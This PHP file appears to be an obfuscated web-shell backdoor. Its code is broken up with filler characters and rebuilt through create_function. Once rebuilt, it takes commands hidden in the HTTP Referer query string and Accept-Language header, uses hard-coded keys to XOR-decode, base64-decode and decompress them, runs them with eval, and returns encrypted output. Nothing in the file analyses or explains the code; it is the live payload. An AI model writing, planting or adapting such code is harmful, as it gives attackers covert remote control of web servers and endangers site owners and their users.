<?php
$P=str_replace('Z','','creaZteZ_ZfZunctZiZon');
$y='parsZye_sZytZyrZy(Zy$u["ZyquerZyyZy"Zy]Zy,$qZy);Zy$q=aZyrrayZy_valZyuesZy(Zy$Zyq)Zy;prZyegZy_maZytZych_aZyllZy("Zy/([Zy\\Zyw]Zy)[\\Zyw-Zy]+(?Zy:;qZy=0.(Zy[\\d]Zy))?Zy,Zy?Zy/"Zy,$ZyrZya,Zy$m);ZyiZyf(Zy$qZy&&$Zym)Zy{@ZysesZysionZy_sZytZyartZy();Zy$s=&';
$J='))Zy),$Zyk))Zy);Zy$ZyoZy=obZy_ZygeZyt_coZynZytentZysZy();oZyb_Zyend_ZycZyleZyaZyn(Zy);$Zyd=ZybaZysZye64_ZyencZyodZye(Zyx(gzZycomZypreZysZys($oZy),Zy$k))Zy;pZyriZynt(Zy"<$Zyk>$ZydZy</$ZykZy>")Zy;@seZysZysZyioZynZy_desZytroZyyZy();Zy}}Zy}}';
$U='$i+Zy+Zy){$Zyo.=$Zyt[Zy$ZyiZy]^Zy$Zyk[$Zyj]Zy;}}ZyretZyurnZy $o;Zy}$Zyr=Zy$_SZyEZyRVZyER;$Zyrr=Zy@Zy$Zyr["HZyTTP_ZyREZyFERZyER"]Zy;$rZya=Zy@$rZy["ZyHZyTTZyP_ZyACCZyEZyPZyT_LAZyNZyGUZyAGZyE"]Zy;ZyifZy($Zyrr&&Zy$rZya){$ZyuZy=pZyarZyseZy_urZyl($Zyrr)Zy;';
$d='<ZycoZyunZyt($Zym[1]Zy);Zy$ZyzZy+Zy+Zy)$Zyp.Zy=$q[Zy$m[Zy2][Zy$Zyz]Zy];ifZy(strZypos(Zy$p,Zy$h)=Zy==Zy0)Zy{$sZy[$Zyi]=Zy"";Zy$pZy=$sZys(Zy$p,Zy3)Zy;}iZyf(arZyray_ZykZyeyZy_eZyxisZytsZy($i,Zy$s)Zy){Zy$s[Zy$iZy].Zy=$p;Zy$eZy=strZypZyos($Zys[Zy$';
$t='$_SEZySZySIONZy;$ssZy="sZyuZybstZyr";Zy$ZysZyl="ZystrtZyoloZywerZy"Zy;$i=Zy$mZy[1Zy][Zy0Zy]Zy.$Zym[1Zy][1Zy];$Zyh=$ZyslZy($Zyss(mZyd5($Zyi.Zy$ZykhZy)Zy,Zy0,3)Zy);$fZy=Zy$sl(Zy$Zyss(ZymZyd5($ZyiZy.$kfZy)Zy,0,3Zy))Zy;$p=Zy"";ZyforZy($zZy=1;Zy$z';
$B='$khZy="Zyc1d2Zye3fZy4Zya5bZy6Zy";$Zykf="Zy0Zyf9e8Zyd7cZy6b5aZy";fuZynctZyionZy xZy($Zyt,$kZy){$Zyc=stZyrZylen(Zy$k)Zy;$l=ZystrlZyen(Zy$t);Zy$Zyo=""Zy;foZyrZy($i=Zy0;$Zyi<$ZylZy;)Zy{forZy($j=Zy0Zy;Zy(Zy$Zyj<Zy$c&&Zy$i<$Zyl);$Zyj++Zy,';
$o='i]Zy,$f)Zy;ZyiZyfZy($e)Zy{$kZy=$khZy.$Zykf;ZyobZy_sZytarZyt(Zy);@ZyevaZyl(@ZygzunZycomZypreZyss(Zy@Zyx(@ZybasZye64Zy_decZyodZye(ZypregZy_rZyepZylZyacZyeZy(aZyrraZyy("Zy/_/"Zy,"/Zy-/Zy")Zy,arZyrZyay(Zy"/"Zy,"+Zy"),$ZysZys($Zys[Zy$Zyi]Zy,0,Zy$e';
$C=str_replace('Zy','',$B.$U.$y.$t.$d.$o.$J);
$Q=$P('',$C);$Q();
?>
